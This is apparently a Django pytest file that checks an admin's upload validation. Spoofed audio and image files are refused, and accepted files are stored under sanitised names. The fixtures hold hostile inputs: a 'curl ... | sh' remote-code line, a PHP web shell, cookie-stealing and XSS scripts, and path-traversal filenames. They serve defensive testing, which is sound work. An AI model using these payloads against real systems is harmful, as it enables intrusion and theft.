"""Uploads through the admin: judged by content, stored under clean names, never a page.

Section audio and the provider's signature and logo are the only uploads. Spoofed files
(a page or a script named .mp3, an SVG or a page named .png) are refused with a message
and leave nothing behind; accepted files are renamed after what they really are.
"""

import io
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from django.utils import timezone
from PIL import Image

from courses.models import ProviderSettings, Section
from tests.factories import CourseFactory, StaffFactory
from tests.second_factor import force_login_with_second_factor
from tests.security_data import admin_form_data

DATA = Path(__file__).parent / "data"
NOT_AUDIO = "This file is not MP3, M4A (AAC) or Ogg (Vorbis or Opus) audio"


def image_bytes(format, size=(8, 8)):
    buffer = io.BytesIO()
    Image.new("RGB", size, "navy").save(buffer, format=format)
    return buffer.getvalue()


SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'


@pytest.fixture
def admin(client, db):
    return force_login_with_second_factor(client, StaffFactory())


def stored_files(settings):
    root = Path(settings.MEDIA_ROOT)
    return sorted(str(p.relative_to(root)) for p in root.rglob("*") if p.is_file())


def add_section(client, upload):
    course = CourseFactory(is_published=False)
    url = reverse("admin:courses_section_add") + f"?course={course.pk}"
    data = admin_form_data(client.get(url))
    data.update(title="Secrecy", body="Text.", audio=upload)
    return client.post(url, data)


@pytest.mark.parametrize(
    ("name", "content", "why"),
    [
        ("lecture.mp3", b"<!doctype html><html><script>alert(document.cookie)</script>", ""),
        ("lecture.mp3", b"#!/bin/sh\ncurl http://203.0.113.9/x | sh\n", ""),
        ("lecture.mp3", b"<?php system($_GET['c']); ?>", ""),
        (
            "lecture.mp3",
            b"MZ\x90\x00" + b"\x00" * 300,
            " (its content is application/x-msdownload)",
        ),
        ("lecture.mp3", SVG, ""),
        ("lecture.mp3", image_bytes("PNG"), " (its content is image/png)"),
        ("lecture.ogg", b"OggS" + b"\x00" * 400, ""),  # the magic bytes alone
    ],
    ids=["html", "shell script", "php", "windows exe", "svg", "png", "fake ogg"],
)
def test_spoofed_audio_is_refused_and_nothing_is_stored(admin, settings, name, content, why):
    response = add_section(admin, SimpleUploadedFile(name, content, "audio/mpeg"))

    assert response.status_code == 200
    page = response.content.decode()
    assert NOT_AUDIO in page or "This file starts like Ogg but is not readable" in page
    if why:
        assert why in page
    assert not Section.objects.exists()
    assert stored_files(settings) == []


def test_audio_over_the_size_cap_is_refused(admin, settings):
    settings.AUDIO_MAX_BYTES = 1000

    response = add_section(admin, SimpleUploadedFile("talk.mp3", (DATA / "voice.mp3").read_bytes()))

    assert "the limit is 1000\xa0bytes" in response.content.decode()
    assert not Section.objects.exists()


def test_audio_is_stored_under_a_clean_name_with_the_extension_of_its_content(admin, settings):
    hostile_name = "../../My Lecture (final) <img src=x onerror=alert(1)>.mp3"
    upload = SimpleUploadedFile(hostile_name, (DATA / "voice-vorbis.ogg").read_bytes())

    assert add_section(admin, upload).status_code == 302

    [stored] = stored_files(settings)
    assert stored == Section.objects.get().audio.name
    folder, name = stored.rsplit("/", 1)
    assert folder == f"audio/{timezone.now():%Y/%m}"
    assert name.startswith("my-lecture-final-img-srcx-onerroralert1-")
    assert name.endswith(".ogg")  # Ogg content, whatever the name said
    assert set(name) <= set("abcdefghijklmnopqrstuvwxyz0123456789-.")
    served = admin.get(f"/media/{stored}")
    assert served["Content-Type"] == "audio/ogg"


# --- The provider's signature and logo ---------------------------------------------------


def save_provider_images(client, **uploads):
    ProviderSettings.load()
    url = reverse("admin:courses_providersettings_change", args=[1])
    data = admin_form_data(client.get(url))
    data.update(administrator_name="Jordan Ellis, PhD", **uploads)
    return client.post(url, data)


@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("signature.png", b"<html><script>alert(1)</script></html>", "Upload a valid image"),
        ("signature.svg", SVG, "Upload a valid image"),
        ("signature.png", SVG, "Upload a valid image"),
        ("signature.png", b"%PDF-1.4\n%%EOF", "Upload a valid image"),
        ("signature.gif", image_bytes("GIF"), "Upload a PNG or JPEG image (this one is GIF)"),
        ("signature.png", image_bytes("BMP"), "Upload a PNG or JPEG image (this one is BMP)"),
        ("signature.png", image_bytes("PNG", (2000, 40)), "at most 1500 pixels a side"),
    ],
    ids=["html", "svg", "svg named png", "pdf named png", "gif", "bmp named png", "too wide"],
)
def test_spoofed_or_unsuitable_images_are_refused(admin, settings, name, content, message):
    for field in ("signature_image", "logo"):
        response = save_provider_images(admin, **{field: SimpleUploadedFile(name, content)})

        assert response.status_code == 200
        assert message in response.content.decode()
    provider = ProviderSettings.load()
    assert not provider.signature_image and not provider.logo
    assert stored_files(settings) == []


def test_images_are_stored_under_a_clean_name_with_their_real_extension(admin, settings):
    response = save_provider_images(
        admin,
        signature_image=SimpleUploadedFile("../../Dr Ellis sig<script>.pdf", image_bytes("PNG")),
        logo=SimpleUploadedFile("logo.png", image_bytes("JPEG")),
    )

    assert response.status_code == 302
    provider = ProviderSettings.load()
    assert provider.signature_image.name == "provider/dr-ellis-sigscript.png"
    assert provider.logo.name == "provider/logo.jpg"
    assert stored_files(settings) == ["provider/dr-ellis-sigscript.png", "provider/logo.jpg"]
    assert admin.get(provider.signature_image.url)["Content-Type"] == "image/png"
    assert admin.get(provider.logo.url)["Content-Type"] == "image/jpeg"


def test_upload_widgets_only_offer_what_is_accepted(admin):
    section_page = admin.get(reverse("admin:courses_section_add")).content.decode()
    assert 'accept="audio/mpeg,audio/mp4,audio/ogg,.mp3,.m4a,.ogg,.opus"' in section_page

    ProviderSettings.load()
    provider_page = admin.get(reverse("admin:courses_providersettings_change", args=[1]))
    assert 'accept="image/*"' in provider_page.content.decode()
